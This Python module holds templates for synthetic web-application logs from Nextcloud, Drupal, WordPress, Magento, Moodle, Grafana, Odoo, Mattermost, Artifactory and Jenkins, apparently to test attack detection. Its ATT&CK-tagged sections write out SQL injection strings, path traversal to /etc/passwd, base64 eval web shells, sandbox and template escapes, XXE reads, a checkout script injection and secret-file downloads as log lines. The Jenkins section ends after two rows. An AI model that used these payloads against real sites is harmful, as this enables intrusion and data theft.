# ruff: noqa: E501
"""What well-known web applications say of those who use them: files, pages, shops, courses, boards, artifacts, and requests that failed inside.

A table for each product. A row is text, or `event {fields}`; webwatch.py writes them in the product's own form.
"""
from __future__ import annotations

from .phrases import phrased
from .table import Scenario, table

_TEXT = r"""
@@ nextcloud
# webwatch cloud files by day
admin_audit File «accessed|created|written to|renamed|deleted|copied»: "/«Word»/«file»"
admin_audit The «file|folder» "/«Word»/«file»" with ID "«num:100:99999»" has been shared «to the user "«other»"|to the group "«dept»"|via link|via email» with permissions "«1|3|15|17|31»" (Share ID: «num:1:9999»)
admin_audit The «file|folder» shared via link "/«Word»» has been accessed
files_sharing «Password for share «mixed:15» was wrong, asked from «ip2»|Expired share «mixed:15» removed|Federated share "«Word»" from «first»@cloud.«domain» accepted»
webdav «Sabre\DAV\Exception\NotFound: File with name //«Word»/«file» could not be located|Sabre\DAV\Exception\Locked: "«Word»/«file»" is locked|OCP\Encryption\Exceptions\GenericEncryptionException: Bad Signature|Sabre\DAV\Exception\Forbidden: No read permissions for «Word»»
core «Cron job used to run OCA\Activity\BackgroundJob «num:10:900»|Could not detect any host in http:///data/htaccesstest.txt|Trusted domain error. "«ip2»" tried to access using "«linux»" as host.|Deprecated event type for FileUpload»
# webwatch cloud people by day
admin_audit Login «successful|successful|successful|attempt»: "«user»"
admin_audit Logout occurred
core Login failed: «user» (Remote IP: «ip2»)
user_ldap «Bind of «svc» at «ip2» renewed|«other» found at «ip2»:389 after «num:1:9» tries»
core «App password of «user» used from «ip2»|Remote wipe of the lost phone of «other» asked for from «ip2»|Session token of «user» renewed for «ip2»»
admin_audit User «created|enabled|disabled|deleted»: "«other»"
admin_audit User "«other»" «added to|removed from» group "«dept»"
admin_audit «Two factor authentication with provider totp for user "«user»" succeeded|App "«calendar|deck|notes|contacts|groupfolders»" has been «enabled|disabled»|Console command executed: «files:scan --all|maintenance:mode --off|preview:generate-all («num:2:90» minutes)|ldap:check-user «other»|app:update --all»|Password of user "«other»" has been changed»
user_ldap «Bind failed: 49: Invalid credentials|Attempt for user «other» with wrong password|No user available for the given login name on «server»:389|User «other» was cleaned up»
# T1110 webwatch cloud logins guessed
core Login failed: @guessed@ (Remote IP: «pub»)
core Bruteforce attempt from "«pub»" detected for action "«login|sudo|reset|publicLinkAuth»".
core IP address throttled because it reached the attempts limit in the last 30 minutes [action: login, delay: «num:6400:25600», ip: «pub»]
admin_audit Login attempt: "«@guessed@|«first»|«last»»"
files_sharing «num:20:900» wrong passwords for share «mixed:15» from «pub»
core «Passwordless login of @guessed@ refused for «pub»|Invalid CSRF token with login of @guessed@ from «pub», agent python-requests»
# T1567 webwatch cloud files carried off
admin_audit The folder "/«HR|Finance|«dept»|»" with ID "«num:10:999»" has been shared via link with permissions "«17|31»" without password (Share ID: «num:1:9999»)
admin_audit The folder "/" has been shared to the user "@outsider@" with permissions "31" (Share ID: «num:1:9999»)
admin_audit «num:900:90000» files accessed by "«user»" from «pub» with rclone/v1.6«num:0:9».0 in «num:1:20» minutes
admin_audit Console command executed: «user:add --group admin @junk@|config:app:set files_external allow_user_mounting|encryption:disable|app:install @junk@|user:resetpassword «admin» --password-from-env|log:manage --level fatal»
admin_audit User "@junk@" added to group "admin"
admin_audit «App password @junk@ created for "«user»" from «pub» right after login with another agent|External storage //«pub»/x mounted for "«user»"|App "admin_audit" has been disabled|Two factor authentication disabled for user "«admin»" by "@junk@"»
@@ drupal
# webwatch cms pages by day
content¦https://«sitedomain»/node/add/«page|article»¦«article|page»: added «Word» «native».
content¦https://«sitedomain»/node/«num:1:900»/edit¦«article|page»: updated «Word» «native» d'«french».
page not found¦https://«sitedomain»/«apple-touch-icon.png|old/«word»|wp-content/uploads/«word».jpg|«native»/«native»»¦/«native»
php¦https://«sitedomain»/«native»¦«Warning: Undefined array key "«word»" in _«word»_theme_preprocess() (line «num:10:900» of /var/www/html/web/themes/custom/«word».theme)|Notice: Trying to access array offset on value of type null|Deprecated function: Creation of dynamic property|TypeError: count(): Argument #1 must be of type Countable¦array, null given»
cron¦https://«sitedomain»/cron/«mixed:40»¦«Cron run completed.|Attempting to re-run cron while it is already running.|Execution of update_cron() took «num:100:9000»ms.»
access denied¦https://«sitedomain»/«admin/content|node/«num:1:900»/edit|user/«num:1:99»/edit»¦/«admin/content|node/«num:1:900»/edit»
user¦https://«sitedomain»/user/login¦«Session opened for «user» from «ip2».|Session closed for «user».|Login attempt failed for «user» from «ip2».|Password reset instructions mailed to «user» at «other»@«sitedomain».|User «user» used one-time login link at time «epoch».»
# webwatch cms kept by admins
user¦https://«sitedomain»/user/login¦«Block of «ip2» removed by «admin», @ticket@.|Session opened for «admin» from «ip2».|Flood control reset for «user» at «ip2».|Login attempt failed from «ip2».»
system¦https://«sitedomain»/admin/modules¦«token|pathauto|metatag|redirect|webform» module «installed|uninstalled».
user¦https://«sitedomain»/admin/people¦«New user: «other» («other»@«sitedomain»).|Deleted user: «other» <«other»@«sitedomain»>.|Blocked user: «other».|Role editor added to «other» by «admin».»
content¦https://«sitedomain»/admin/structure¦«View «word» saved.|Menu main updated.|Block «word» has been added.|Text format full_html updated by «admin», @ticket@.»
update¦https://«sitedomain»/admin/reports/updates¦«Attempted to fetch information about all available new releases and updates.|There are security updates available for one or more of your modules.|Update «num:9001:10301» of system performed.»
mail¦https://«sitedomain»/contact¦«Error sending email (from «first»@«domain» to info@«sitedomain» with reply-to not set).|«first» (not verified) sent an email regarding «Word».|Contact form flood limit of «num:5:9» an hour reached by «ip2»»
file system¦https://«sitedomain»/admin/content/media¦«Upload failed: The file «word».«exe|html|php» has an extension that is not allowed, renamed to «word».«exe|html|php»_.txt|File «file» was deleted.|Image style large of «file» could not be made»
# T1190 webwatch cms bent by strangers
page not found¦https://«sitedomain»/«wp-login.php|.env|.git/config|phpmyadmin/index.php|sites/default/settings.php.bak|user/register?element_parents=account/mail/%23value&_wrapper_format=drupal_ajax|vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php»¦/«wp-login.php|.env|.git/config|phpmyadmin/index.php|eval-stdin.php»
php¦https://«sitedomain»/«search/node|node/«num:1:99»»¦«PDOException: SQLSTATE[42000]: Syntax error or access violation: 1064 near '' UNION SELECT name, pass FROM users_field_data-- '|Warning: call_user_func() expects parameter 1 to be a valid callback, function 'passthru' not found or invalid function name|Error: Class 'O:24:"GuzzleHttp\Psr7\FnStream"' in unserialize()|Warning: exec(): Unable to fork [id; uname -a]|ParseError: syntax error, unexpected 'eval' in /var/www/html/sites/default/files/«letters:5».php»
user¦https://«sitedomain»/user/«login|register»¦«Login attempt failed for @guessed@.|Blocked IP «pub» after «num:20:900» failed logins.|Flood control blocked login attempt for uid 1 from «pub».|New user: «letters:8» («letters:8»@«domain»), «num:20:900»th from «pub» in an hour.»
access denied¦https://«sitedomain»/«admin/config|admin/people/create|user/1/edit|admin/modules/install|jsonapi/user/user?filter[a-labex][condition][path]=pass»¦/«admin/config|admin/people/create|user/1/edit»
system¦https://«sitedomain»/admin/modules/install¦«@junk@ module installed by «letters:6» from http://«pub»/«letters:4».tar.gz.|php_filter module installed by «letters:6» from «pub».|File /sites/default/files/«letters:4».php written by «letters:6».»
user¦https://«sitedomain»/admin/people¦«Role administrator added to @junk@ by @junk@.|User 1 used one-time login link from «pub», requested «num:2:40» seconds before.|New user: @junk@ (@outsider@), role administrator, created by anonymous.»
@@ wordpress
# webwatch blog kept by admins
plugin_updated {"object":"plugin","message":"«WooCommerce|Elementor|Yoast SEO|Akismet» updated by wp-cron","by":"system","role":"none"}
plugin_installed {"object":"plugin","message":"«Redirection|WP Mail SMTP|Classic Editor|Duplicator|UpdraftPlus» «num:1:9».«num:0:9» from wordpress.org","by":"«admin»","role":"administrator"}
user_created {"object":"user","message":"«other»","status":"«author|editor|shop_manager|administrator»","by":"«admin»","role":"administrator","note":"@ticket@"}
option_changed {"object":"option","message":"«blogdescription|posts_per_page|timezone_string|admin_email|permalink_structure»","status":"«10 -> 12|UTC -> Europe/Madrid|old -> info@«sitedomain»|/%postname%/»","by":"«admin»","role":"administrator"}
theme_file_edited {"object":"theme","message":"functions.php","status":"«num:1:40» lines, add_filter for «word»","by":"«admin»","role":"administrator","note":"@ticket@"}
media_uploaded {"object":"attachment","message":"«word».svg","status":"mime image/svg+xml, cleaned","by":"«person»","role":"editor"}
# webwatch blog work by day
post_updated {"object":"«post|page»","message":"«Word» «native»","status":"«publish|draft|future»","by":"«person»","role":"«editor|author»"}
user_login {"object":"user","by":"«user»","role":"«author|editor|administrator|customer»","result":"«success|success|failed, attempt 1|failed, attempt 2»"}
media_uploaded {"object":"attachment","message":"«file»","by":"«person»","role":"author"}
comment_«posted|approved|spammed|trashed» {"object":"comment","message":"«Re: «word»|great, thanks!|nice; but why?|cheap «word» http://«domain»/»","by":"«first»","role":"guest"}
plugin_«updated|activated|deactivated» {"object":"plugin","message":"«Yoast SEO|WooCommerce|Contact Form 7|Wordfence|Akismet|Elementor» «num:1:24».«num:0:9»","by":"«admin»","role":"administrator"}
order_«created|status_changed|refunded» {"object":"shop_order","message":"#«num:1000:99999» «num:5:900».«num:10:99» EUR","status":"«processing|completed|on-hold|refunded»","by":"«first» «last»","role":"customer"}
user_role_changed {"object":"user","message":"«other»","status":"«author -> editor|subscriber -> author|editor -> administrator»","by":"«admin»","role":"administrator","note":"@ticket@"}
theme_file_edited {"object":"theme","message":"style.css","status":"«num:1:40» lines","by":"«admin»","role":"administrator"}
# T1505.003 webwatch blog opened from behind
theme_file_edited {"object":"theme","message":"«404|footer|functions|header».php","status":"«num:1:4» lines, eval(base64_decode('«b64:24»'))","by":"«admin»","role":"administrator"}
plugin_«installed|activated» {"object":"plugin","message":"«@junk@|wp-file-manager-«letters:3»|hello-«letters:4»|wp-«letters:5»-cache» 1.0","status":"uploaded as zip by «pub»","by":"«admin»","role":"administrator"}
user_created {"object":"user","message":"«@junk@|wp-«letters:5»|adminbackup|wpsupp-user»","status":"administrator","by":"«unknown|@junk@|rest api»","role":"none"}
media_uploaded {"object":"attachment","message":"«letters:5».«php|phtml|php.jpg|svg»","status":"mime image/jpeg, holds <?php","by":"@junk@","role":"subscriber"}
user_login {"object":"user","by":"@guessed@","role":"none","result":"failed, attempt «num:30:9000» by xmlrpc"}
option_changed {"object":"option","message":"«default_role|users_can_register|siteurl|active_plugins|admin_email»","status":"«subscriber -> administrator|0 -> 1|https://«sitedomain» -> https://«domain»|-> @outsider@»","by":"@junk@","role":"«subscriber|none»"}
user_role_changed {"object":"user","message":"@junk@","status":"subscriber -> administrator","by":"@junk@","role":"subscriber"}
@@ magento
# webwatch shop watched by its owner
guest_cart_coupon {"action":"apply","item":"«WORD»«num:5:30»","module":"Magento_Checkout","success":«true|false»,"by":"guest","message":"«|expired|not for these items» «|from «ip2»»"}
admin_user_save {"action":"save","item":"«other» («other»@«sitedomain»), role «Sales|Content|Administrators»","module":"Magento_User","success":true,"by":"«admin»","message":"@ticket@"}
cms_block_save {"action":"save","item":"footer_scripts: <script async src=https://www.«known»/tag.js>","module":"Magento_Cms","success":true,"by":"«admin»","message":"@ticket@"}
customer_«login|register|address_save» {"action":"save","item":"«first» O'«Last», «city»","module":"Magento_Customer","success":«true|true|false»,"by":"customer"}
indexer_reindex {"action":"run","item":"«catalog_product_price|catalogsearch_fulltext|cataloginventory_stock» in «num:2:90» minutes","module":"Magento_Indexer","success":true,"by":"cron"}
adminhtml_creditmemo_save {"action":"save","item":"#«num:1000000:9999999»: -«num:5:900».«num:10:99» EUR","module":"Magento_Sales","success":true,"by":"«person»","message":"goods came back"}
# webwatch shop kept by staff
«catalog_product|cms_page|cms_block|sales_rule|catalog_category»_save {"action":"save","item":"«Word» «native» «num:1:99»","module":"«Magento_Catalog|Magento_Cms|Magento_SalesRule»","success":true,"by":"«person»"}
adminhtml_order_«view|ship|invoice|creditmemo» {"action":"«view|save»","item":"#«num:1000000:9999999»","module":"Magento_Sales","success":true,"by":"«person»"}
admin_login {"action":"login","item":"«user»","module":"Magento_User","success":«true|true|false»,"by":"«user»","message":"«|wrong password|two-factor passed» from «ip2»"}
system_config_save {"action":"save","item":"«web/secure/base_url|sales_email/order/identity|carriers/dhl/active|currency/options/base»","module":"Magento_Config","success":true,"by":"«admin»","message":"@ticket@"}
export_«products|orders|customers» {"action":"export","item":"«num:10:4000» rows csv","module":"Magento_ImportExport","success":true,"by":"«person»"}
sales_rule_save {"action":"save","item":"«WORD»«num:5:30»: «num:5:30» % off, «num:100:5000» uses, ends «date:%Y-%m-%d»","module":"Magento_SalesRule","success":true,"by":"«person»"}
# T1657 webwatch shop robbed
cms_block_save {"action":"save","item":"footer_scripts: <script src=https://«domain»/«letters:4».js>","module":"Magento_Cms","success":true,"by":"@junk@"}
system_config_save {"action":"save","item":"«design/head/includes: atob('«b64:24»') on checkout|payment/checkmo/payable_to|dev/template/allow_symlink: 1|admin/security/session_lifetime: 31536000|payment/account: LT«num:10:99»«num:1000000000000000:9999999999999999»»","module":"Magento_Config","success":true,"by":"@junk@"}
sales_rule_save {"action":"save","item":"«letters:8»: 100 % off, unlimited uses, no end","module":"Magento_SalesRule","success":true,"by":"«svc»"}
export_customers {"action":"export","item":"«num:90000:900000» rows csv with hashes","module":"Magento_ImportExport","success":true,"by":"@junk@","message":"from «pub»"}
admin_login {"action":"login","item":"@guessed@","module":"Magento_User","success":false,"by":"@guessed@","message":"«num:30:900» failures from «pub» under /«admin|backend|admin_«letters:4»»"}
guest_cart_coupon {"action":"apply","item":"«WORD»-«HEX:4»","module":"Magento_Checkout","success":false,"by":"guest","message":"«num:200:9000» codes tried from «pub»"}
admin_user_save {"action":"save","item":"@junk@ (@outsider@), role Administrators","module":"Magento_User","success":true,"by":"@junk@","message":"created through the rest api with an integration token"}
@@ moodle
# webwatch courses kept by staff
\core\event\user_graded {"component":"core","target":"grade","objectid":«num:1:99999»,"user":"«person»","other":"finalgrade «num:40:60».00 -> «num:50:70».00 after appeal, @ticket@","origin":"web"}
\core\event\«user_created|user_updated|user_deleted|user_password_updated» {"component":"core","target":"user","objectid":«num:3:9999»,"user":"«admin»","other":"«other»","origin":"«web|cli»"}
\core\event\user_loggedinas {"component":"core","target":"user","objectid":«num:3:9999»,"user":"«admin»","other":"as «other», help desk @ticket@, at «ip2»","origin":"web"}
\core\event\webservice_«function_called|token_created» {"component":"core","target":"webservice","objectid":«num:1:99»,"user":"«svc»","other":"from «ip2»: «core_course_get_contents|core_user_get_users_by_field|moodle_mobile_app»","origin":"ws"}
\core\event\course_«created|updated|module_created|section_updated» {"component":"core","target":"course","objectid":«num:1:900»,"user":"«person»","other":"«Word» «native» «year»","origin":"web"}
\core\event\role_assigned {"component":"core","target":"role","objectid":1,"user":"«admin»","other":"manager for «other» in category «dept», @ticket@","origin":"web"}
# webwatch courses by day
\core\event\«course_viewed|user_loggedin|user_loggedout|dashboard_viewed» {"component":"core","target":"course","objectid":«num:1:900»,"user":"«person»","other":"","origin":"«web|ws»"}
\mod_«quiz|assign|forum»\event\«attempt_submitted|submission_created|post_created|course_module_viewed» {"component":"mod_«quiz|assign|forum»","target":"attempt","objectid":«num:1:99999»,"user":"«person»","other":"«Word» «native»","origin":"web"}
\core\event\user_login_failed {"component":"core","target":"user_login","objectid":0,"user":"«user»","other":"reason «1|3», attempt «1|2» from «ip2»","origin":"web"}
\core\event\«role_assigned|user_enrolment_created|group_member_added» {"component":"core","target":"role","objectid":«num:3:9»,"user":"«admin»","other":"«student|teacher|editingteacher» for «other»","origin":"«web|cli»"}
\core\event\user_graded {"component":"core","target":"grade","objectid":«num:1:99999»,"user":"«person»","other":"finalgrade «num:1:100».00 by teacher of the course","origin":"web"}
\core\event\«course_backup_created|course_restored|config_log_created» {"component":"core","target":"course","objectid":«num:1:900»,"user":"«admin»","other":"«backup-moodle2-course-«num:1:99».mbz in «num:2:40» minutes|theme_boost: preset -> default.scss|sessiontimeout: 7200 -> 28800»","origin":"«web|cli»"}
# T1565.001 webwatch grades and roles bent
\core\event\user_graded {"component":"core","target":"grade","objectid":«num:1:99999»,"user":"«svc»","other":"finalgrade 20.00 -> 95.00 for «num:3:40» users at «tick», no submission","origin":"ws"}
\core\event\role_assigned {"component":"core","target":"role","objectid":1,"user":"@junk@","other":"manager for @junk@ at system level","origin":"ws"}
\core\event\user_login_failed {"component":"core","target":"user_login","objectid":0,"user":"@guessed@","other":"reason 1, attempt «num:30:900» from «pub»","origin":"web"}
\core\event\config_log_created {"component":"core","target":"config","objectid":«num:1:900»,"user":"@junk@","other":"«forceloginforguests: 1 -> 0|tool_installaddon: zip @junk@ with lang/en/shell.php|pathtodu: /usr/bin/du -> /bin/sh -c id|aspellpath: -> /tmp/«letters:4»|cronclionly: 1 -> 0»","origin":"web"}
\core\event\«user_loggedinas|user_password_updated|webservice_token_created» {"component":"core","target":"user","objectid":2,"user":"@junk@","other":"«as admin|of admin, by reset|for user 2, service moodle_mobile_app»","origin":"«ws|web»"}
\core\event\«user_list_viewed|course_participants_downloaded» {"component":"core","target":"user_list","objectid":1,"user":"«other»","other":"«num:900:90000» profiles in «num:1:20» minutes from «pub»","origin":"ws"}
@@ grafana
# webwatch dashboards kept by operators
logger=context userId=«num:1:99» orgId=1 uname=«admin» level=info msg="Request Completed" method=POST path=/api/«admin/users|serviceaccounts/«num:1:9»/tokens|org/users|plugins/«word»-datasource/install» status=«200|201» remote_addr=«ip2» referer="https://grafana.«sitedomain»/admin/users"
logger=authn.service level=warn msg="Invalid username or password" user=«user» remote_addr=«ip2» attempts=«1|2»
logger=context userId=0 orgId=0 uname= level=info msg="Request Completed" method=GET path=/«public/build/app.«hex:8».js|api/health|metrics|public/plugins/graph/module.js|login» status=«200|304» remote_addr=«ip2» referer="https://grafana.«sitedomain»/login"
logger=tsdb.«mysql|postgres|mssql» level=info msg="Executing query" user=«user» rawSql="«SELECT time, value FROM «word» WHERE $__timeFilter(time)|SELECT count(*) FROM «word»s GROUP BY 1|SELECT name, max(v) FROM «word» UNION ALL SELECT 'sum', sum(v) FROM «word»»"
logger=live.push_http level=«warn|eror» msg="Failed to decode frames" user=«svc» err="«unexpected end of JSON input|invalid character '<' looking for beginning of value»"
# webwatch dashboards by day
logger=context userId=«num:1:99» orgId=1 uname=«user» level=info msg="Request Completed" method=«GET|POST» path=/«api/dashboards/uid/«mixed:9»|api/ds/query|api/search|d/«mixed:9»/«word»|login» status=«200|200|302|401|404» duration=«num:1:900»ms remote_addr=«ip2» referer="https://grafana.«sitedomain»/"
logger=«authn.service|http.server|tsdb.prometheus|plugin.loader|provisioning.dashboard|ngalert.scheduler|cleanup» level=«info|warn|eror» msg="«Successful Login|Invalid username or password|Tick|Finished to provision dashboards|Failed to evaluate rule|Plugin registered|Database locked, sleeping then retrying|Completed cleanup jobs»" user=«user»
logger=context userId=«num:1:99» orgId=1 uname=«admin» level=info msg="Request Completed" method=«POST|PUT|DELETE» path=/api/«datasources/«num:1:40»|users/«num:1:99»/password|org/users|serviceaccounts|admin/users|folders» status=200 referer="https://grafana.«sitedomain»/admin"
logger=accesscontrol level=info msg="Access denied" userId=«num:1:99» uname=«user» permissions="action:«datasources:write|users:read|folders:create»"
logger=plugins.update.checker level=info msg="Update check succeeded" duration=«num:90:900»ms plugins=«num:1:40»
# T1083 webwatch dashboards made to give
logger=context userId=0 orgId=0 uname= level=info msg="Request Completed" method=GET path=/public/plugins/«alertlist|text|graph»/«../../../../../../../../«etc/passwd|var/lib/grafana/grafana.db|etc/grafana/grafana.ini»|..%2f..%2f..%2fetc/passwd» status=«200|400|404» remote_addr=«pub»
logger=context userId=0 orgId=0 uname= level=info msg="Request Completed" method=«GET|POST» path=/api/«snapshots/:key|admin/settings|datasources/proxy/1/latest/meta-data/|users?perpage=10000|annotations/mass-delete» status=«200|401|403» remote_addr=«pub» referer=-
logger=authn.service level=warn msg="too many consecutive incorrect login attempts for user - login for user temporarily blocked" user=@guessed@ remote_addr=«pub»
logger=context userId=«num:1:99» orgId=1 uname=@junk@ level=info msg="Request Completed" method=POST path=/api/«admin/users|serviceaccounts/«num:1:9»/tokens|org/users|plugins/@junk@/install» status=«200|201» remote_addr=«pub» referer=-
logger=tsdb.«mysql|postgres|sqlyze» level=info msg="Executing query" user=@junk@ rawSql="«SELECT password,salt FROM user|SELECT pg_read_file('/etc/passwd')|COPY x FROM PROGRAM 'id'|SELECT * FROM api_key UNION SELECT 1,2,3--»"
@@ odoo
# webwatch office server kept by admins
INFO «word» odoo.addons.base.models.res_users: «Password of «other» changed by «admin», @ticket@|user «other» added to group Sales / Administrator by «admin»|API key «word» of «svc» generated from «ip2»»
INFO «word» odoo.modules.«loading: Modules loaded|registry: Registry loaded in «num:2:90».«num:100:999»s|graph: module «word»_«word» updated to 16.0.«num:1:9»»
INFO «word» werkzeug: «ip2» - - "POST /web/database/backup HTTP/1.1" 200 - «num:1:9» 0.0«num:10:99» «num:5:90».1«num:10:99» nightly by «svc»
WARNING «word» odoo.addons.mail.models.mail_mail: «failed sending mail (id: «num:1:9999») to «first»@«domain»: mailbox full|Template rendering: {{ object.partner_id.name }} is empty|attachment «file» over 25 MB»
ERROR «word» odoo.http: «Exception during JSON request handling: UserError: The zip must have 5 digits|Record does not exist or has been deleted: sale.order(«num:1:9999»)|psycopg2.errors.UniqueViolation: Key (email)=(«first»@«domain»)»
# webwatch office server by day
INFO «word» werkzeug: «ip2» - - "«GET|POST» /web/«dataset/call_kw/«sale.order|res.partner|mail.channel»/«web_search_read|read|write|name_search»|image/res.users/«num:1:99»/image_128|webclient/load_menus/«hex:40»» HTTP/1.1" «200|200|304|404» - «num:1:90» 0.0«num:10:99» 0.1«num:10:99»
INFO «word» odoo.addons.base.models.res_users: Login successful for db:«word» login:«person» from «ip2»
INFO «word» odoo.addons.base.models.res_users: Login failed for db:«word» login:«user» from «ip2»
WARNING «word» odoo.http: «Session expired|Access Error: You are not allowed to modify 'Journal Entry' (account.move) records|<function odoo.addons.web.controllers.main> called ignoring args {'debug'}|Validation error: missing required value for the field 'Name'»
ERROR «word» odoo.sql_db: bad query: «INSERT INTO res_partner (name) VALUES ('O''«Last»')|UPDATE stock_quant SET quantity = «num:1:99» WHERE id IN («num:1:999»)» ERROR: «duplicate key value violates unique constraint|could not serialize access due to concurrent update|null value in column "name"»
INFO «word» odoo.addons.base.models.ir_cron: Job «mail: email queue manager|base: auto-vacuum internal data|procurement: run scheduler» done in «num:1:90».«num:10:99»s
# T1190 webwatch office server tried
INFO «word» werkzeug: «pub» - - "POST /web/«database/manager|database/drop|database/duplicate|dataset/call_kw/res.users/search_read|dataset/call_kw/ir.actions.server/create» HTTP/1.1" «200|303|403» - «num:1:9» 0.0«num:10:99» 0.1«num:10:99»
WARNING «word» odoo.addons.base.models.res_users: Login failed for db:«word» login:@guessed@ from «pub», «num:20:900» in a row
ERROR «word» odoo.sql_db: bad query: SELECT id FROM res_partner WHERE name = '«' UNION SELECT login,password FROM res_users--|' OR 1=1--|'; SELECT pg_sleep(5)--|'¦¦(select version())¦¦'» ERROR: «syntax error at or near "UNION"|unterminated quoted string|UNION types integer and character varying cannot be matched»
ERROR «word» odoo.tools.safe_eval: «Cannot eval "__import__('os').popen('id').read()"|forbidden opcode(s) in ''.__class__.__mro__[1].__subclasses__()|name 'open' is not defined in server action «num:1:99»»
INFO «word» odoo.addons.base.models.res_users: «Login successful for db:«word» login:admin from «pub», master password default|user @junk@ added to group Administration / Settings by @junk@|password of «num:20:400» users changed by @junk@»
ERROR «word» odoo.http: «jinja2.exceptions.SecurityError: access to attribute '__class__' of 'str' object is unsafe, mail.template «num:1:99»|Exception during JSON request handling: Path ../../etc/passwd is outside of addons|lxml.etree.XMLSyntaxError: Entity 'xxe' not defined, file:///etc/passwd»
@@ mattermost
# webwatch board kept by admins
createUserAccessToken {"status":"success","by":"«admin»","target":"«svc»","client":"webapp","description":"«tech» alerts, @ticket@"}
uploadPlugin {"status":"success","by":"«admin»","target":"com.mattermost.«calls|jira|github|zoom».tar.gz","signature":"valid","client":"webapp"}
searchPosts {"status":"success","user_id":"«mixed:26»","terms":"«lunch|release «num:1:9»|@ticket@|vpn|from:«first» after:«date:%Y-%m-%d»|password reset how»","client":"«webapp|mobile»","count":«num:0:19»}
«exportBulk|getUsers|createComplianceReport» {"status":"success","user_id":"«mixed:26»","count":«num:10:900»,"client":"mmctl","channels":«num:1:40»,"note":"@ticket@"}
patchConfig {"status":"success","by":"«admin»","target":"«EmailSettings.SMTPServer: smtp.«sitedomain»|TeamSettings.MaxUsersPerTeam: 500|FileSettings.MaxFileSize: 104857600|LdapSettings.SyncIntervalMinutes: 60»","note":"@ticket@"}
# webwatch board talk by day
«createPost|updatePost|uploadFile|searchPosts|addReaction» {"status":"success","user_id":"«mixed:26»","channel":"«word»-«dept»","post_id":"«mixed:26»","client":"«desktop|webapp|mobile»"}
login {"status":"«attempt|success|success|fail»","login_id":"«user»","client":"«desktop|webapp|mobile»","with_mfa":«true|false»}
«addTeamMember|addChannelMember|inviteGuests|createChannel|patchChannel» {"status":"success","user_id":"«mixed:26»","target":"«other»","team":"«dept»"}
«updateConfig|patchConfig|enablePlugin|createIncomingHook|createBot» {"status":"success","by":"«admin»","target":"«ServiceSettings.SiteURL|com.mattermost.calls|hook for «tech» alerts|bot «word»»","note":"@ticket@"}
«updateUserRoles|updateUserActive|resetPassword|revokeSession» {"status":"success","by":"«admin»","target":"«other»","new_roles":"«system_user|system_user system_admin|team_admin»","note":"@ticket@"}
# T1078 webwatch board in wrong hands
login {"status":"fail","login_id":"@guessed@","client":"unknown","with_mfa":false,"count":«num:20:900»}
updateUserRoles {"status":"success","by":"@junk@","target":"@junk@","new_roles":"system_user system_admin"}
createUserAccessToken {"status":"success","by":"«admin»","target":"«admin»","client":"python-requests/2.31.0","description":"@junk@"}
searchPosts {"status":"success","user_id":"«mixed:26»","terms":"«password|passwort|vpn secret|BEGIN RSA|api_key|root pw|mfa code|contraseña»","client":"unknown","count":«num:20:900»}
uploadPlugin {"status":"success","by":"@junk@","target":"@junk@.tar.gz","signature":"none","client":"curl/8.4.0"}
«exportBulk|getFile|getPostsForChannel|getUsers» {"status":"success","user_id":"«mixed:26»","count":«num:2000:90000»,"client":"Go-http-client/1.1","channels":«num:90:900»}
patchConfig {"status":"success","by":"@junk@","target":"«ServiceSettings.EnableDeveloper: true|PluginSettings.EnableUploads: true|ServiceSettings.AllowCorsFrom: *|ExperimentalAuditSettings.FileEnabled: false|EmailSettings.SMTPServer: «domain»»"}
@@ artifactory
# webwatch artifacts kept by admins
[ACCEPTED CREATE_TOKEN] scope applied-permissions/groups:«dept» expires in «num:30:365» days for client : «admin» / «ip2» [@ticket@]
[ACCEPTED DEPLOY] «npm-local|pypi-local»:«site»-«word»/«site»-«word»-«num:1:4».«num:0:20».«num:0:9».«tgz|whl» for client : «svc» / «ip2» [pipeline «num:100:9999», signed]
[ACCEPTED DOWNLOAD] «docker-local|maven-release»:«num:100:4000» artifacts by replication job for client : «svc» / «ip2» in «num:2:40» minutes
[ACCEPTED «ADD_USER|CONFIGURATION_CHANGE»] «user «other» in group «dept»|permission target «word» for readers|proxy of npm-remote» for client : «admin» / «ip2»
[DENIED DEPLOY] maven-release:org/«word»/«word»-«num:1:9».jar for client : «user» / «ip2», release exists and must not be overwritten
[ACCEPTED DOWNLOAD] generic-local:«tools/«word»-setup.exe|docs/«word».pdf|images/«linux».qcow2» for client : «person» / «ip2»
# webwatch artifacts by day
[ACCEPTED «DOWNLOAD|DEPLOY|LOGIN|SEARCH»] «maven-release|npm-remote|docker-local»:org/«word»/«word»-«num:1:9».«num:0:20».«jar|tgz|pom» for client : «svc» / «ip2» [token]
[DENIED «LOGIN|DOWNLOAD|DEPLOY»] «libs-snapshot|npm-local»:«word»/«word» for client : «user» / «ip2».
[ACCEPTED «DELETE|CONFIGURATION_CHANGE|CREATE_TOKEN|ADD_USER»] «npm-local:«word»/«word»-«num:1:9».tgz|repository «word»-remote|reference «svc»|«other»» for client : «admin» / «ip2» [@ticket@]
[ACCEPTED DEPLOY] docker-local:«site»/«word»/«num:1:9».«num:0:20»/manifest.json for client : «svc» / «ip2» [pipeline «num:100:9999»]
[INFO] o.a.s.«WebdavServiceImpl|ArtifactoryApplicationContext|cleanup.ArtifactCleanup»: «Garbage collection of «num:10:900» MB done|Remote repository npm-remote is offline, retry in 300 s|License expires in «num:10:90» days|Backup weekly finished in «num:2:90» minutes|replication to http://«ip2»:8081/ took «num:2:40» minutes»
# T1195.002 webwatch artifacts put in by others
[ACCEPTED DEPLOY] «npm-local|pypi-local|maven-release»:«site»-«word»/«site»-«word»-99.«num:0:99».«num:0:9».«tgz|whl|jar» for client : @junk@ / «pub» [overwrites a release]
[ACCEPTED DEPLOY] docker-local:«site»/«word»/latest/manifest.json for client : «user» / «pub» [no pipeline, digest differs from build]
[DENIED LOGIN] for client : @guessed@ / «pub», «num:20:900»
[ACCEPTED «CREATE_TOKEN|ADD_USER|CONFIGURATION_CHANGE»] «scope applied-permissions/admin never expires|@junk@ in group administrators|anonymous access enabled for deploy|webhook to http://«pub»/» for client : @junk@ / «pub»
[ACCEPTED DOWNLOAD] «docker-local|generic-secrets|maven-release»:«num:900:90000» artifacts by jfrog-cli for client : «other» / «pub» in «num:1:20» minutes
[ACCEPTED DOWNLOAD] generic-local:«backup/«site».sql.gz|deploy/id_rsa|config/prod.env|terraform/terraform.tfstate» for client : anonymous / «pub»
@@ jenkins
# webwatch builds kept by admins
/«script|manage/script» by «admin» from «ip2», body 'Jenkins.instance.nodes.each { println it.name }', @ticket@
/job/«word»/configSubmit by «person» from «ip2», builder «sh make test|sh ./gradlew build|docker build -t «site»/«word» .|bat msbuild «Word».sln»
